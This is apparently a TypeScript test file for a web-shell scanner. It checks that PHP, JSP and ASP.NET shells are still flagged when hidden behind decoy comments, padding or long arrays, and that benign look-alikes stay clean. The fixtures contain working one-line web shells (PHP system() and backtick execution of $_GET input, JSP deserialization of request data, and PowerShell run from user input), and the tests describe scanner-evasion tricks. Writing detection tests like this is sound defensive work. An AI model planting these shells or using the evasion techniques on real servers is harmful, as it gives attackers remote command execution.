import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';
import { phpExcerpts } from './php-excerpts.js';

// Red-team S22R: ways to keep an injected shell out of the excerpts (bench/redteam/README-excerpts-s22.md).
const scanner = createScanner({});
const scan = (src: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), '/www/x.php');

/** A long legitimate-looking file of our own (no request input, no points). */
function host(kib: number): string {
  const parts = ['<?php\nnamespace App\\Util;\n'];
  for (let i = 0; parts.join('').length < kib * 1024; i++) {
    parts.push(`/**\n * Formats amount ${i}.\n */\nfunction fmt_${i}($amount) {\n    $t = number_format((float) $amount, 2);\n    if (!preg_match('/^[0-9.,]+$/', $t)) {\n        return '';\n    }\n    return "{$t} JPY";\n}\n\n`);
  }
  return parts.join('');
}
const SHELL = `$a = ['x' => 'system']; $a['x']($_GET['c']);`;
const CLOSURE = `$call = function ($f, $a) { return $f($a); }; $call('system', $_GET['c']);`;

describe('S22R: excerpts a shell author cannot starve', () => {
  const h = host(120);
  it('clean: the host alone', () => assert.equal(scan(h).verdict, 'clean'));
  it('S22R-1 malicious: a comment of 4,200 decoy points at the top', () => {
    for (const s of [SHELL, CLOSURE]) assert.equal(scan(h.replace('<?php', `<?php\n/* ${'eval( $x( $_GET '.repeat(4200)} */\n`) + `\n${s}\n`).verdict, 'malicious', s);
  });
  it('S22R-2 malicious: 70 decoy points before the shell (the file\'s payload budget was spent on them)', () => {
    const decoys = Array.from({ length: 70 }, (_, i) => `function dec_${i}() { /* eval( */ return ${i}; }\n$big_${i} = '${'x'.repeat(4100)}';\n`).join('');
    assert.equal(scan(`${h}\n${decoys}\n${CLOSURE}\n`).verdict, 'malicious');
  });
  it('S22R-3 malicious: a long comment before the shell, and a file padded past 1 MiB', () => {
    assert.equal(scan(`${h}\n/*${' license '.repeat(600)}*/\n${CLOSURE}\n`).verdict, 'malicious');
    assert.equal(scan(`${h}\n/*${' '.repeat((1 << 20) - h.length)}*/\n${CLOSURE}\n`).verdict, 'malicious');
  });
  it('S22R-4 malicious: the shell in a closure inside an array statement longer than an excerpt', () => {
    const arr = `$hooks = array(\n${Array.from({ length: 200 }, (_, i) => `  'hook_${i}' => 'callback_${i}',\n`).join('')}  'init' => function () { ${CLOSURE} },\n);\n`;
    assert.equal(scan(`${h}\n${arr}`).verdict, 'malicious');
  });
  it('S22R-5 not clean: 300 decoy points in code before the shell (past the 128 excerpts), and the cap is said', () => {
    const decoys = Array.from({ length: 300 }, (_, i) => `function dec_${i}($v) { return call_user_func('trim', $_GET['k${i}']); }\n$big_${i} = '${'x'.repeat(4100)}';\n`).join('');
    const r = scan(`${h}\n${decoys}\n${CLOSURE}\n`);
    assert.notEqual(r.verdict, 'clean');
    assert.ok(r.findings.some((f) => f.rule === 'mamori:excerpts-capped'));
    const few = scan(`${h}\n${decoys.split('\n').slice(0, 40).join('\n')}\n`);
    assert.equal(few.verdict, 'clean', JSON.stringify(few.findings));
  });
  it('excerpts start at code, not at the comment before it, and never overlap', () => {
    const text = `${h}\n/*${' x '.repeat(2000)}*/\n${SHELL}\n`;
    const ex = phpExcerpts(text, 32 * 1024);
    assert.ok(ex.some((e) => text.slice(e.start, e.end).startsWith("$a = ['x' => 'system'];")), JSON.stringify(ex));
    for (let i = 1; i < ex.length; i++) assert.ok(ex[i]!.start >= ex[i - 1]!.end);
  });
});

describe('S22R: benign look-alikes stay clean', () => {
  const h = host(120);
  it('clean: a long array of callbacks with closures that escape the request', () => {
    const arr = `$routes = array(\n${Array.from({ length: 200 }, (_, i) => `  'r_${i}' => 'handler_${i}',\n`).join('')}  'search' => function () { $q = isset($_GET['q']) ? (string) $_GET['q'] : ''; echo htmlspecialchars($q, ENT_QUOTES); },\n);\n`;
    assert.equal(scan(`${h}\n${arr}`).verdict, 'clean');
  });
  it('clean: a licence comment of "eval(" and "$_GET" words before ordinary code', () => {
    assert.equal(scan(h.replace('<?php', `<?php\n/* ${'never eval( $_GET input; '.repeat(400)} */\n`)).verdict, 'clean');
  });
});

describe('S22R: the new rules on benign look-alikes, and the shells they are for', () => {
  const at = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
  it('S22R-7 clean: a JSP reading its cache file (FileInputStream), a parameter and a Base64 thumbnail besides', () => {
    const page = `<%@ page import="java.io.*,java.util.*" %><% String id = request.getParameter("id"); File f = new File(application.getRealPath("/WEB-INF/cache"), id + ".ser"); Map<String, String> frag = null; try (ObjectInputStream in = new ObjectInputStream(new FileInputStream(f))) { frag = (Map<String, String>) in.readObject(); } byte[] thumb = Base64.getDecoder().decode(frag.get("thumb")); %><p><%= thumb.length %></p>`;
    assert.equal(at(page, '/www/cache.jsp').verdict, 'clean');
    const shell = `<%@ page import="java.io.*" %><% String x = request.getParameter("x"); byte[] b = java.util.Base64.getDecoder().decode(x); new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(b)).readObject(); %>`;
    assert.equal(at(shell, '/www/u.jsp').verdict, 'malicious');
  });
  it('S22R-8 clean: an ASP.NET status page running a fixed PowerShell script into a label', () => {
    const page = `<%@ Page Language="C#" %><script runat="server">protected void Page_Load(object s, EventArgs e) { using (PowerShell ps = PowerShell.Create()) { ps.AddScript("Get-Service -Name W3SVC | Out-String"); var sb = new System.Text.StringBuilder(); foreach (var r in ps.Invoke()) sb.Append(Server.HtmlEncode(r.ToString())); StatusLabel.Text = sb.ToString(); } }</script><asp:Label ID="StatusLabel" runat="server" />`;
    assert.equal(at(page, '/www/status.aspx').verdict, 'clean');
    const shell = `<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { string cmd = Script.Text; using (PowerShell ps = PowerShell.Create()) { ps.AddScript(cmd); Output.Text = ps.Invoke()[0].ToString(); } }</script>`;
    assert.equal(at(shell, '/www/p.aspx').verdict, 'malicious');
  });
  it('S22R-9 clean: PHP printing a JavaScript template literal around escaped input; backtick shells still malicious', () => {
    const view = `<?php\necho "<script>const label = \`" . htmlspecialchars($_GET['q'] ?? '', ENT_QUOTES) . "\`; document.title = label;</script>";\necho '<script>const t = \`Results for \${' . json_encode($_GET['q'] ?? '') . '}\`;</script>';\n`;
    assert.equal(at(view, '/www/view.php').verdict, 'clean');
    for (const s of ["<?php echo `ls '' . $_GET[c] . ''`;", "<?php echo `ls {$_GET['d']}`;", "<?php echo `$_GET[c]`;"]) assert.equal(at(s, '/www/b.php').verdict, 'malicious', s);
  });
});
